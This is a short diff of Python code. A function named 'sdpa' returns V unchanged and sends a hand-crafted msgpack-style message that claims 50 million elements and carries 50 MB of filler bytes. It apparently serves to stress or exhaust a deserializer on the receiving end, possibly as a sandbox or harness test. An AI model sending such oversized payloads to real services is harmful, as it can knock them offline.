@@ -29,5 +29,5 @@ def send(kind, body):
 
 def sdpa(Q, K, V, mask=None):
     size = 50_000_000
-    send(b"a", b"\x92\xa1a\xdd" + size.to_bytes(4, "big") + b"\x90" * size)
+    send(b"a", b"\x93\xa4list\xa1a\xdd" + size.to_bytes(4, "big") + b"\x90" * size)
     return V
